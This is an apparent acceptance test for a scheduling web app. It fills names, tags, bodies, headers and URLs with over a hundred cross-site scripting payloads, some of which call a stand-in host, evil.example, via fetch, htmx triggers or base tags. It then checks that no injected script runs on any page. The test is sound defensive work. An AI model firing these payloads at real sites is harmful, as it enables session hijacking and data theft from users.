"""Whatever strangers put into names, tags, bodies and answers is shown as text: no script of theirs runs."""

from itertools import product
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import Page, expect

from tests.acceptance.journal import Journal
from tests.acceptance.stack import Stack
from tests.integration.actions.receiver import says

#: What a script would do if one ran: `watched_page` sees each of them.
DEEDS = ("alert(1)", "console.error(1)", "fetch('//evil.example')", "document.title=1", "throw 1")
SHAPES = (
    "<script>{}</script>",
    '"><script>{}</script>',
    '\'><img src=x onerror="{}">',
    "<svg onload={}>",
    '" onfocus="{}" autofocus="',
    "' onmouseover='{}",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</pre><iframe srcdoc='<script>{}</script>'>",
    "<details open ontoggle={}>",
    '<a href="javascript:{}" autofocus>x</a>',
    "<style>@import '//evil.example';</style><b onclick={}>",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "${{{}}}",
    "<form action=//evil.example><button hx-get=//evil.example hx-trigger=load>{}",
    '" hx-get="//evil.example" hx-trigger="load" data-x="{}',
    "<!-- --><base href=//evil.example><script src=x>{}</script>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror={}>",
    "javascript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
)
HOSTILE = [shape.format(deed) for shape, deed in product(SHAPES, DEEDS)]
SHOWN_TAG = 64
#: So many kill switches are on, each with a banner on every page.
SWITCHES = 10


@pytest.mark.parametrize(
    "every",
    [pytest.param(3, id="a third of the shapes"), pytest.param(1, id="all", marks=pytest.mark.long)],
)
def test_a_hundred_hostile_strings_run_no_script_on_any_page(
    page: Page, stack: Stack, journal: Journal, every: int
) -> None:
    """All are in the lists. The pages of single schedules are opened for every shape, or every third."""
    assert len(HOSTILE) >= 100
    answer = says("404 Not Found", body="\n".join(HOSTILE[:40]).encode())
    url = journal.script("/hostile", answer)
    given = [
        {
            "name": text,
            "tags": [text[:SHOWN_TAG]],
            "headers": {"X-Text": text},
            "body": text,
            "callback_url": f"{url}?q=1",
            "every_seconds": 86_400,
        }
        for text in HOSTILE
    ]
    made = stack.post("/schedules/bulk", {"schedules": given}, status=200)
    assert made["created"] == len(HOSTILE), made
    ids = [each["id"] for each in made["results"]]
    stack.post(f"/schedules/{ids[0]}/trigger", status=202)
    (event,) = stack.finished(ids[0])
    messages = [
        {"event_name": text[:SHOWN_TAG], "payload": text, "headers": {"X-Text": text}, "callback_url": url,
         "metadata": {"text": text}, "delay_seconds": 3_600}
        for text in HOSTILE
    ]  # fmt: skip
    made = stack.post("/messages/bulk", {"messages": messages}, status=200)
    assert made["created"] == len(HOSTILE), made
    message_events = [each["event_id"] for each in made["results"]]
    for number, text in enumerate(HOSTILE[:: len(DEEDS)][:SWITCHES]):
        for path, body in (
            ("kill-switch", {"tag": text[:SHOWN_TAG], "note": text}),
            (f"blackouts/b{number}", {"cron": "0 1 * * *", "duration_seconds": 60, "note": text,
                                                 "tag": text[:SHOWN_TAG]}),
            (f"destinations/d{number}", {"url": f"{url}?q={quote(text)}", "headers": {"X-T": text}}),
        ):  # fmt: skip
            put = requests.put(f"{stack.url}/api/{path}", json=body)
            assert put.ok, put.text
    shown = 0
    page.goto("/schedules")
    while True:
        shown += page.locator("tbody tr").count()
        following = page.get_by_test_id("next-page")
        if not following.count():
            break
        with page.expect_navigation():
            following.click()
    assert shown >= len(HOSTILE)
    for path in (
        "/",
        "/events",
        f"/events/{event['_id']}",
        "/dead-letters",
        *(
            "/messages",
            "/destinations",
            "/stops",
            "/calendar?view=hours",
            "/calendar",
            "/calendar?view=agenda",
        ),
        *("/destinations/d0/edit", f"/schedules/{ids[5]}/edit", "/forecast", "/processes", "/go?to=script"),
        *(f"/events/{each}" for each in message_events[:: 4 * len(DEEDS)]),
        *(f"/schedules/{each}" for each in ids[:: every * len(DEEDS)]),
    ):
        page.goto(path)
        # Whatever a script would wait for: a focus, a mouse over it, a click.
        page.locator("h1").hover()
    page.goto(f"/schedules/{ids[0]}")
    expect(page.locator("h1")).to_have_text(HOSTILE[0])
    page.goto("/new-schedule")
    page.get_by_test_id("name").fill(HOSTILE[1])
    page.get_by_test_id("when").fill(HOSTILE[2])
    page.get_by_test_id("url").fill(HOSTILE[6])
    page.get_by_test_id("save").click()
    expect(page.get_by_test_id("name")).to_have_value(HOSTILE[1])
    for path, fields in (
        ("/new-destination", ("name", "url", "auth_username", "auth_secret", "headers")),
        ("/new-message", ("event_name", "when", "url", "id", "body", "headers", "metadata")),
        ("/stops", ("note", "name", "when", "minutes")),
    ):
        page.goto(path)
        for summary in page.locator("main summary").all():
            summary.click()
        for number, field in enumerate(fields):
            page.get_by_test_id(field).fill(HOSTILE[number * len(DEEDS) + number % len(DEEDS)])
        page.get_by_test_id("save-blackout" if path == "/stops" else "save").click()
        expect(page.locator(".wrong").first, path).to_be_visible()
        expect(page.get_by_test_id(fields[0])).not_to_have_value("")
    page.goto("/schedules?tag=%3Cscript%3Ealert(2)%3C/script%3E")
    expect(page.get_by_test_id("empty")).to_be_visible()
    page.goto("/sign-in?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
